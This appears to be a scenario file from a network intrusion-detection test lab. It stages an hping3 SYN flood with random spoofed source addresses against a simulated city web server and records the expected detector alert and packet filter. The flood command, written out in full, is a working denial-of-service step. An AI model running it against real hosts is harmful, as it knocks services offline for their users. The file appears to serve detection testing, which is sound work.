"""hping3 SYN flood with random spoofed sources against the city's web
server: 12,000 SYNs at up to 20,000 per second."""
import benign

NAME = 'hping-synflood'
KIND = 'flood'
TOOLS = ['hping3', 'lighttpd', 'dnsmasq', 'mosquitto', 'tcpdump']
FAST = True
LIVE = True
EXPECT = [100101]
DETECTORS = ['flood']
ATTACKER = '198.51.100.66'
CMD = ['hping3', '-S', '-p', '80', '--rand-source', '-c', '12000', '-i', 'u50', '-q',
       benign.WEB]


def run(lab, ctx):
    benign.city(lab, ctx)
    lab.host('attacker', [ATTACKER + '/24'])
    lab.capture(ctx.pcap)
    benign.start(lab, ctx, rounds=8)
    lab.run('attacker', CMD, timeout=60, log=ctx.log('hping3'))
    return {'tool': 'hping3', 'command': ' '.join(CMD), 'attacker': [ATTACKER],
            'victim': [benign.WEB], 'benign': benign.ADDRS, 'spoofed': True,
            'first': 'tcp.flags.syn==1 && tcp.flags.ack==0 && ip.dst==%s && '
                     'eth.src==%s' % (benign.WEB, lab.hosts['attacker']['mac'])}
